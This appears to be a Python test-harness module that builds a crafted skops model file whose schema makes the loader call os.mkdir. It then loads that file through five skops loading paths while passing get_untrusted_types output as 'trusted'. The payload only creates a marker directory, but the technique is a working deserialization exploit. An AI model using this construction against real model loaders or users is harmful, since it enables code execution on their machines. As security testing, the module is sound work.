"""skops: estimators without pickle."""

from __future__ import annotations

import json
import zipfile

LOADERS = ("skops",)
DISTRIBUTION = "skops"
ATTACK = "a type named `os.mkdir`, passed on as trusted by `get_untrusted_types`"


def node(loader, dotted, number, **more):
    module, _, name = dotted.rpartition(".")
    return {"__loader__": loader, "__module__": module, "__class__": name, "__id__": number, **more}


def make(folder, marker):
    import skops.io
    from sklearn.linear_model import LinearRegression

    if marker is None:
        skops.io.dump(LinearRegression().fit([[0.0], [1.0]], [0.0, 2.0]), folder / "a.skops")
        return
    text = node("JsonNode", "builtins.str", 1, content=json.dumps(str(marker)), is_json=True)
    called = node("TupleNode", "builtins.tuple", 2, content=[text])
    schema = node("ConstructorFromReduceNode", "os.mkdir", 3, content=called, protocol=2, _skops_version="0.12")
    with zipfile.ZipFile(folder / "a.skops", "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))


def ways():
    import skops.io
    from skops.io import load

    def used(model):
        return repr(model.predict([[3.0]]))

    def trusted(path):
        return skops.io.get_untrusted_types(file=path)

    def from_bytes(path):
        return used(skops.io.loads(path.read_bytes(), trusted=trusted(path)))

    def from_file(path):
        with path.open("rb") as file:
            return used(skops.io.load(file, trusted(path)))

    def early_from_file(path):
        with path.open("rb") as file:
            return used(load(file, trusted(path)))

    return {
        "skops.io.load": ("a.skops", lambda path: used(skops.io.load(path, trusted=trusted(path)))),
        "skops.io.load of an open file": ("a.skops", from_file),
        "skops.io.loads": ("a.skops", from_bytes),
        "from skops.io import load": ("a.skops", lambda path: used(load(path, trusted=trusted(path)))),
        "from skops.io import load, an open file": ("a.skops", early_from_file),
    }
